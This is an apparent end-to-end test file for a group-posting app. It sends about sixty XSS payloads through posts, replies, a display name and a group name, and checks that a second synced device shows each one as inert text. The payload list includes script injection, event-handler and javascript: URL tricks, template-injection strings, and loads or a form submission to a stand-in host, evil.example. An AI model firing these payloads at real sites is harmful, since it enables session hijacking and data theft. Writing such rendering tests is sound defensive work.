import { askAndAdmit, findOlderPost, foreignOrigins, newInviteLink, startMeeting, postWith, reply, share, type Meeting, type WatchedPage } from './appHelpers.js';

/**
 * Hostile text through the real UI: post bodies, replies, a display name and a group name,
 * typed on one device and received by a second over sync. Every payload must show as the
 * literal text it is. The pages run with the CSP bypassed, so this proves the rendering
 * itself is inert (the CSP is a second wall, not the one under test); any payload that
 * became markup would run the canary, open a dialog or make a request.
 */

const CANARY = 'window.__xss=(window.__xss||0)+1';
const EVIL = 'http://evil.example';

const PAYLOADS: string[] = [
  `<script>${CANARY}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `"><script>${CANARY}</script>`,
  `'><script>${CANARY}</script>`,
  `</textarea><script>${CANARY}</script>`,
  `</title><script>${CANARY}</script>`,
  `<img src=x onerror="${CANARY}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<IMG SRC=x ONERROR=alert(1)>`,
  `<svg onload="${CANARY}">`,
  `<svg><script>${CANARY}</script></svg>`,
  `<svg><animate onbegin="${CANARY}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CANARY}"><text x=20 y=20>click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CANARY}">`,
  `<body onload="${CANARY}">`,
  `<iframe src="javascript:${CANARY}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CANARY}</script>"></iframe>`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<a href="javascript:${CANARY}">tap me</a>`,
  `javascript:${CANARY}`,
  `JaVaScRiPt:alert(document.domain)`,
  `data:text/html,<script>${CANARY}</script>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<form action="${EVIL}/steal"><button>Send</button></form>`,
  `<input autofocus onfocus="${CANARY}">`,
  `<details open ontoggle="${CANARY}">`,
  `<video><source onerror="${CANARY}"></video>`,
  `<audio src=x onerror="${CANARY}">`,
  `<marquee onstart="${CANARY}">hi</marquee>`,
  `<div style="background:url(${EVIL}/bg.png)">styled</div>`,
  `<style>@import url(${EVIL}/x.css); body{display:none}</style>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<template><img src=x onerror="${CANARY}"></template>`,
  `<slot name=x onclick="${CANARY}">`,
  `<hearth-app></hearth-app>`,
  `<hearth-post .post=\${1}></hearth-post>`,
  '${alert(1)}',
  '`${window.__xss=1}`',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %> #{7*7} {{7*7}}',
  `&lt;script&gt;${CANARY}&lt;/script&gt;`,
  `&#60;img src=x onerror=&#34;${CANARY}&#34;&#62;`,
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  `<scr<script>ipt>${CANARY}</scr</script>ipt>`,
  `<!--<img src=x onerror="${CANARY}">-->`,
  `<![CDATA[<script>${CANARY}</script>]]>`,
  `<?xml version="1.0"?><x onload="${CANARY}"/>`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">`,
  `<select><template><style></select><img src=x onerror="${CANARY}">`,
  `<a href="#" onclick="${CANARY}">#</a>`,
  `"onmouseover="${CANARY}`,
  `' onmouseover='${CANARY}`,
  `<x contenteditable onblur="${CANARY}">edit</x>`,
  `\u202eevil.exe\u202c <b>bold</b>`,
  `<dialog open>not a dialog</dialog>`,
  `<button popovertarget=x>pop</button><div popover id=x>hi</div>`,
];

const NAME = `<img src=x onerror="${CANARY}">Bo`;
const GROUP = `<svg onload="${CANARY}">Circle`;
const REPLIES = [
  `<script>${CANARY}</script>`,
  `<img src="${EVIL}/r.png" onerror="${CANARY}">`,
  `javascript:${CANARY}`,
  '${window.__xss=1}',
];

describe('hostile text through the UI', () => {
  let meeting: Meeting;
  let writer: WatchedPage;
  let reader: WatchedPage;

  beforeAll(async () => {
    meeting = await startMeeting(2, { bypassCSP: true });
    [writer, reader] = meeting.people as [WatchedPage, WatchedPage];
  });

  afterAll(async () => {
    await meeting?.close();
  });

  it(`shows ${PAYLOADS.length} payloads as posts, plus replies and names, as literal text on both devices`, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    const a = writer.page;
    await a.goto(meeting.app.url + '/');
    await a.getByLabel('Display name').fill('Ana');
    await a.getByRole('button', { name: 'Continue' }).click();
    await a.getByRole('button', { name: 'Create a group' }).click();
    await a.getByLabel('Group name').fill(GROUP);
    await a.getByRole('button', { name: 'Create group' }).click();
    await a.getByRole('heading', { level: 1, name: GROUP }).waitFor();
    const link = await newInviteLink(a);

    const b = reader.page;
    await b.goto(link);
    await askAndAdmit(a, b, { guestName: NAME, groupName: GROUP, needsName: true });
    await b.getByText(/Up to date with 1 person/).waitFor({ timeout: 60_000 });

    // Each payload carries its index, so each post can be found by a plain marker.
    const bodies = PAYLOADS.map((payload, index) => `xss-${index}: ${payload}`);
    for (const body of bodies) await share(a, body);
    // Sixty posts in a burst on two busy cores: give the sync room before replying on B.
    await postWith(b, bodies.at(-1)!).waitFor({ timeout: 90_000 });
    // The board shows a window of the newest posts; the oldest is further down, as on a phone.
    for (const page of [a, b]) await findOlderPost(page, bodies[0]!);
    await reply(b, bodies[0]!, REPLIES[0]!);
    for (const text of REPLIES.slice(1)) await reply(a, bodies[0]!, text);

    for (const page of [a, b]) {
      for (const body of bodies) await postWith(page, `xss-${bodies.indexOf(body)}:`).getByText(body, { exact: true }).waitFor();
      const first = postWith(page, 'xss-0:');
      for (const text of REPLIES) await first.getByText(text, { exact: true }).waitFor();
      await page.getByRole('heading', { level: 1, name: GROUP }).waitFor();
    }
    // The joiner's hostile name is credited as text on the writer's side.
    await postWith(a, 'xss-0:').getByText(NAME, { exact: true }).first().waitFor();
    await postWith(b, 'xss-0:').getByText(`${NAME} (you)`, { exact: true }).first().waitFor();

    const allowed = [new URL(meeting.app.url).origin, new URL(meeting.signaling.url).origin];
    for (const side of [writer, reader]) {
      const page = side.page;
      expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
      // No payload became an element anywhere in the page body or the app's shadow trees.
      const injected = await page.evaluate(() => {
        const found: string[] = [];
        const walk = (root: HTMLElement | ShadowRoot): void => {
          for (const el of root.querySelectorAll('script, iframe, object, embed, img, svg a, marquee, x, base, meta[http-equiv], form[action]')) {
            if (el.closest('svg[part="qr"]')) continue;
            found.push(el.outerHTML.slice(0, 80));
          }
          for (const el of root.querySelectorAll('*')) if (el.shadowRoot) walk(el.shadowRoot);
        };
        walk(document.body);
        return found;
      });
      expect(injected).toEqual([]);
      expect(side.dialogs).toEqual([]);
      expect(side.errors).toEqual([]);
      expect(foreignOrigins(side, allowed)).toEqual([]);
      expect(await page.title()).toBe('Hearth');
    }
  });
});
